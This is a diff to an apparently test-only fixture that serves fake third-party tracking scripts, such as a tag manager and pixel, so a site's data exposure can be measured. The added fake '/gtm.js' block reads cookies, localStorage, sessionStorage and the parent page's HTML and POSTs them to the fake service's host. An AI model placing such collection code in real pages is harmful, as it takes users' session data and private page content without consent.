@@ -5,7 +5,16 @@ import { gunzipSync } from 'node:zlib';
 export type Seen = { method: string; path: string; query: URLSearchParams; body: string };
 export type FakeService = { url: string; seen: Seen[] };
 
-const names = ['tagManager', 'pixelScripts', 'pixelEvents', 'analytics', 'recorder', 'errors', 'nobody'] as const;
+const names = [
+  'tagManager',
+  'pixelScripts',
+  'pixelEvents',
+  'analytics',
+  'recorder',
+  'errors',
+  'chat',
+  'nobody',
+] as const;
 type Name = (typeof names)[number];
 
 export type ThirdParties = Record<Name, FakeService> & {
@@ -20,19 +29,24 @@ const scripts: Record<string, string> = {
   '/gtm.js': `(() => {
     const home = new URL(document.currentScript?.src ?? [...document.scripts].find((s) => s.src.includes('/gtm.js')).src).origin;
     const tell = (entry) => void fetch(home + '/collect?event=' + encodeURIComponent(entry.event) +
-      '&location=' + encodeURIComponent(location.href) + '&entry=' + encodeURIComponent(JSON.stringify(entry)), { mode: 'no-cors' });
+      '&location=' + encodeURIComponent(location.href) + '&entry=' + encodeURIComponent(JSON.stringify(entry)) + '&referrer=' + encodeURIComponent(document.referrer), { mode: 'no-cors' });
     window.dataLayer.forEach(tell);
+    // A container may hold anything: it reads whatever this document lets it read.
+    const read = (look) => { try { return String(look()) } catch (error) { return error.name } };
+    const all = [() => location.href, () => document.referrer, () => document.title, () => document.cookie, () => parent.location.href, () => parent.document.documentElement.outerHTML,
+      () => performance.getEntries().map(({ name }) => name).join(' '), () => JSON.stringify(localStorage), () => JSON.stringify(sessionStorage)];
+    void fetch(home + '/collect?event=read', { method: 'POST', body: all.map(read).join('\\n'), mode: 'no-cors' });
     const push = window.dataLayer.push.bind(window.dataLayer);
     window.dataLayer.push = (entry) => { tell(entry); return push(entry); };
   })();`,
   '/en_US/fbevents.js': `(() => {
     const call = (verb, id, name) => {
-      if (verb === 'trackSingle') new Image().src = EVENTS + '/tr/?id=' + id + '&ev=' + encodeURIComponent(name) + '&dl=' + encodeURIComponent(location.href);
+      if (verb === 'trackSingle') new Image().src = EVENTS + '/tr/?id=' + id + '&ev=' + encodeURIComponent(name) + '&dl=' + encodeURIComponent(location.href) + '&rl=' + encodeURIComponent(document.referrer);
     };
     window.fbq.callMethod = call;
     window.fbq.queue.splice(0).forEach((words) => call(...words));
   })();`,
-  '/tag/': `void fetch(new URL(document.currentScript.src).origin + '/collect?page=' + encodeURIComponent(location.href), { mode: 'no-cors' });`,
+  '/tag/': `void fetch(new URL(document.currentScript.src).origin + '/collect?page=' + encodeURIComponent(location.href) + '&referrer=' + encodeURIComponent(document.referrer), { mode: 'no-cors' });`,
 };
 
 const openToAll = {
@@ -72,6 +86,8 @@ export async function startThirdParties(): Promise<ThirdParties> {
       RECORDER_PROJECT_KEY: 'recorder1',
       RECORDER_INGEST_URL: `${services.recorder.url}/ingest`,
       ERROR_REPORTING_DSN: services.errors.url.replace('://', '://key@') + '/1',
+      CHAT_KEY: 'chat1',
+      CHAT_URL: services.chat.url,
     },
     forget: () => names.forEach((name) => services[name].seen.splice(0)),
     stop: async () => {
